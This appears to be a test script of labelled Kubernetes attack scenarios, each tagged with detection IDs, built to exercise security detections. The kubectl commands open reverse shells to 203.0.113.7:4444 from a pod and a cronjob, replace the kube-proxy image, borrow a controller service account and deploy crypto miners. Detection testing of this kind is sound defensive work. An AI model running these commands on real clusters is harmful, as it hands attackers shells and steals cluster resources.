# Disguises and images. 01-looking-around.sh says how to read this.

#: false-kube-proxy | D065 D067 | mallory
kubectl run kube-proxy-x7k2p -n kube-system --image=203.0.113.7:5000/kube-proxy:v1.35.0 --labels=k8s-app=kube-proxy
#: controller-account | D069 D065 | mallory
kubectl run helper -n kube-system --image=alpine --overrides='{"spec":{"serviceAccountName":"clusterrole-aggregation-controller"}}'
#: kube-system-pod-changed | D157 | mallory
kubectl set image -n kube-system daemonset/kube-proxy kube-proxy=203.0.113.7:5000/kube-proxy:v1.35.0
#: miner | D034 | mallory
kubectl create deployment web -n shop --image=metal3d/xmrig:latest2 --replicas=2
#: miner-by-arguments | D034 | mallory
kubectl run web -n shop --image=registry.example.com/shop/front:2.1.0 --command -- ./front -o stratum+tcp://pool.example.net:3333 --donate-level 1
#: attack-image | D033 | mallory
kubectl run kali -n default --image=kalilinux/kali-rolling -- sleep 3600
#: base-image | D033 D066 | mallory
kubectl run box --image=busybox -- sleep 3600
#: reverse-shell-pod | D038 | mallory
kubectl run shell -n shop --image=alpine --command -- sh -c 'nc 203.0.113.7 4444 -e /bin/sh'
#: reverse-shell-cronjob | D038 D040 | mallory
kubectl create cronjob sync2 -n shop --image=alpine --schedule='*/5 * * * *' -- bash -c 'exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | sh'
#: smash-and-grab | D169 | mallory
kubectl run brief -n shop --image=alpine --overrides='{"spec":{"nodeName":"worker-1"}}' -- sleep 3600
kubectl wait -n shop --for=condition=Ready pod/brief --timeout=20s
until kubectl exec -n shop brief -- id; do sleep 0.2; done
kubectl delete pod brief -n shop --wait=false
